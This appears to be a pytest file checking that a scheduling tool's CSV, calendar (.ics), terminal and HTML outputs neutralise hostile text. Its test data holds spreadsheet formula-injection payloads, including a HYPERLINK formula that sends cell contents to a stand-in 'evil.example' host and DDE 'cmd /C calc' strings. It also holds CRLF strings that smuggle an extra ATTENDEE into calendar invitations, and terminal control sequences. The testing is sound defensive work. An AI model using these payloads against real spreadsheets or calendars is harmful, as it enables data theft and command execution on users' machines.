"""Hostile text in outputs (issue 9, SPEC §4 "Safety of what is written"): no CSV cell Excel would
run as a formula, no control character in any file or on the terminal, no e-mail cell that adds a
property to a calendar invitation."""

from __future__ import annotations

import csv
import dataclasses
from datetime import datetime
from pathlib import Path

import pytest

from inputs.reader import read_scenario
from inputs.sample import SAMPLE_DIR
from inputs.scenario import Scenario
from outputs.calendars import plain_address, write_calendars
from outputs.changes import write_changes
from outputs.clean import printable
from outputs.csvsafe import safe_cell, write_csv
from outputs.report import report_html
from outputs.scenario_csv import write_scenario_csv
from scheduler.plan import Plan
from scheduler.replan import Change

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
]
CONTROL = "\x1b[31m\x00\x07\u202e\u200b"


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _runs_as_formula(cell: str) -> bool:
    return cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r")


def _has_control(text: str) -> bool:
    return any(not (ch.isprintable() or ch in "\n\r") for ch in text)


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_neutralised(value):
    """Each formula-like cell gets a leading ' and keeps its text; white-space controls become spaces."""
    cell = safe_cell(value)
    assert cell.startswith("'") and not _runs_as_formula(cell)
    assert cell[1:].strip() == value.replace("\t", " ").replace("\r", " ").strip()


def test_plain_cells_are_left_alone():
    """Ordinary text, a date, a mid-text = and an empty cell are written as they are; a negative
    number is quoted too (our reader reads it back; no cell of ours is a number to calculate with)."""
    for value in ("巴南中心医院", "2024-10-14", "a=b", "", "E07;E02"):
        assert safe_cell(value) == value
    assert safe_cell("-3") == "'-3"
    assert safe_cell("'=x") == "''=x"  # so that reading it back gives '=x again


def test_control_characters_are_dropped():
    """ESC, NUL, BEL, a right-to-left override and a zero-width space never reach a file; line
    breaks are kept only where the output has lines."""
    assert printable(f"张{CONTROL}伟") == "张[31m伟"
    assert printable("a\tb\r\nc") == "a b  c"
    assert printable("a\r\nb\x1bc", keep_lines=True) == "a\nbc"
    assert printable("a\r\nb\n\nc", keep_lines=True) == "a\nb\n\nc"  # only line breaks: kept as they are
    assert printable("a\rb\u2028c", keep_lines=True) == "a\nb\nc"
    assert printable("\ud800x") == "x"


def test_changes_csv_has_no_formula_cell(tmp_path: Path, scenario: Scenario):
    """A change whose reason and values are formulas is written as text."""
    changes = [Change("H1", "moved", value, value, value + CONTROL) for value in FORMULAS]
    path = tmp_path / "changes.csv"
    write_changes(scenario, changes, path)
    cells = _cells(path)
    assert not any(_runs_as_formula(c) for c in cells)
    assert not any(_has_control(c) for c in cells)
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_write_csv_neutralises_the_header_too(tmp_path: Path):
    path = tmp_path / "x.csv"
    write_csv(path, ["=a", "b"], [["@c", "d"]])
    assert _cells(path) == ["'=a", "b", "'@c", "d"]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")


def test_scenario_csv_with_hostile_names_round_trips(tmp_path: Path):
    """Names, addresses and reasons typed as formulas are written neutralised and read back exactly."""
    sample = read_scenario(SAMPLE_DIR)
    hostile = [v for v in FORMULAS if v.strip() == v] + ["-"]
    institutions = tuple(
        dataclasses.replace(
            inst, name=hostile[n % len(hostile)] + f" {n}", address=hostile[-n % len(hostile)]
        )
        for n, inst in enumerate(sample.institutions)
    )
    experts = tuple(
        dataclasses.replace(e, name=hostile[n % len(hostile)] + f"{n}") for n, e in enumerate(sample.experts)
    )
    scenario = dataclasses.replace(sample, institutions=institutions, experts=experts)
    folder = tmp_path / "scenario"
    write_scenario_csv(scenario, folder)
    for path in folder.glob("*.csv"):
        assert not any(_runs_as_formula(c) for c in _cells(path)), path.name
    back = read_scenario(folder)
    assert [i.name for i in back.institutions] == [i.name for i in institutions]
    assert [i.address for i in back.institutions] == [i.address for i in institutions]
    assert [e.name for e in back.experts] == [e.name for e in experts]


@pytest.mark.parametrize(
    "address",
    [
        "a@b.com ATTENDEE:mailto:evil@x.com",
        "a@b.com\r\nATTENDEE:mailto:evil@x.com",
        '"Evil" <evil@x.com>',
        "evil@x.com;RSVP=TRUE",
        "not an address",
    ],
)
def test_an_address_that_is_not_a_plain_addr_spec_is_left_out(address):
    assert plain_address(address) is None


def test_a_plain_address_is_kept():
    assert plain_address(" zjg@example.cn ") == "zjg@example.cn"


def test_calendars_carry_no_control_character_and_no_injected_attendee(
    tmp_path: Path, scenario: Scenario, plan: Plan, clock: datetime
):
    """A name with ESC/NUL/RLO and an e-mail cell that tries to add an attendee: the .ics files hold
    no control character (other than their CRLF line ends) and exactly one ATTENDEE per invitation,
    the bad address replaced by the never-delivered placeholder."""
    experts = tuple(
        dataclasses.replace(e, name=f"{e.name}{CONTROL}", email="a@b.com\r\nATTENDEE:mailto:evil@x.com")
        if e.id == "E02"
        else e
        for e in scenario.experts
    )
    params = dataclasses.replace(
        scenario.params, office=f"巡查办{CONTROL}", office_email="x@y.cn ORGANIZER:z"
    )
    hostile = dataclasses.replace(scenario, experts=experts, params=params)
    write_calendars(hostile, plan, tmp_path / "calendars", now=clock)
    files = list((tmp_path / "calendars").rglob("*.ics"))
    assert files
    for path in files:
        text = path.read_bytes().decode("utf-8")
        assert not _has_control(text.replace("\r\n", "")), path.name
        assert "evil@x.com" not in text and "ORGANIZER:z" not in text
        unfolded = text.replace("\r\n ", "")
        if "METHOD:REQUEST" in text:
            assert sum(line.startswith("ATTENDEE") for line in unfolded.split("\r\n")) == 1


def test_report_carries_no_control_character(scenario: Scenario, plan: Plan):
    """Names and reasons with control characters (from a plan.json or a scenario) leave the page clean."""
    institutions = tuple(dataclasses.replace(i, name=i.name + CONTROL) for i in scenario.institutions)
    hostile = dataclasses.replace(scenario, institutions=institutions)
    left_out = tuple(dataclasses.replace(u, reasons=(f"原因{CONTROL}",)) for u in plan.unscheduled)
    html = report_html(hostile, dataclasses.replace(plan, unscheduled=left_out))
    assert not _has_control(html)
    assert "原因[31m" in html
